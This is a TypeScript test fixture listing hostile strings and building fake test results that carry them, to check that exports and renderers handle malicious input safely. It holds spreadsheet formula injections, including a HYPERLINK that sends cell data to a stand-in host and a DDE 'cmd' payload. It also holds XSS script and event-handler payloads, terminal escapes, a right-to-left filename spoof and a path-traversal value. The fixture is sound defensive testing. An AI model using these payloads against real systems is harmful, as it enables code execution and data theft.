import type { ScenarioResult } from '../../src/events/index.ts'
import { STORY_LOADOUTS, storyResult } from './story-results.ts'

/** Texts that a spreadsheet, a page, a terminal or a parser may take for something else, by what they try. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://example.invalid/?"&A1,"open")',
  'formula after blanks': ' \t=1+1',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)',
  script: '<script>document.title = "taken"</script>',
  'end of script': '</script><script>document.title = "taken"</script>',
  'image with a handler': '<img src=x onerror="document.title=\'taken\'">',
  'link of script': '[click](javascript:alert(1)) <a href="javascript:alert(1)">click</a>',
  comment: '<!-- --!> ]]> <![CDATA[ & &amp; &#0; "quotes" \'single\'',
  'control characters': 'a\u0000b\u0001c\u0008d\u000Be\u001Ff\u007Fg\uFFFEh\uFFFFi',
  terminal: '\u001B[31mred\u001B[0m \u001B]0;title\u0007 \u001B[2J\u009B31m',
  'right to left':
    'abc \u202Etxt.exe\u202C \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627',
  'lone surrogates': 'high \uD800 low \uDC00 end',
  emoji: '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F600}',
  'line breaks': 'one\r\ntwo\nthree\rfour\u2028five\u2029six',
  commas: 'a,"b";c\td|e',
  number: '00012345678901234567890',
  'no number': 'NaN',
  infinity: '-Infinity',
  date: '2026-02-30',
  'escape of workbooks': '_x000D_ _x0041_',
  'cell too long': 'x'.repeat(40_000),
  'cell that ends in a pair': `${'y'.repeat(32_766)}\u{1F600}${'z'.repeat(10)}`,
  megabyte: 'All work and no play. '.repeat(47_663).slice(0, 1_048_576),
  empty: '',
}

/** A result for each of {@link HOSTILE_TEXTS}, which stands wherever a text may stand. */
export function hostileResults(): ScenarioResult[] {
  return Object.entries(HOSTILE_TEXTS).map(([what, text], index) => {
    const short = text.slice(0, 200)
    const loadout = STORY_LOADOUTS[0]!
    return {
      ...storyResult(loadout, `hostile > ${short}`, {
        status: index % 2 === 0 ? 'FAILED' : 'PASSED',
        metrics: { e2el: 1, ttft: 1e308, 'own =measure': short, tokens_source: short },
        measures: { 'own =measure': { title: short, unit: short, better: null } },
        input_text: text,
        output_text: text,
        output_file: index === 0 ? 'attachments/=not there "&<>.wav' : null,
        errors: [{ message: text, stack: text, expected: text, actual: `${text}!` }],
        logs: [{ service: short, file: '../../outside.log', from: 0, to: 10 }],
        flags: [short],
      }),
      id: `llm|hostile|${what}|${what}|0`,
    }
  })
}
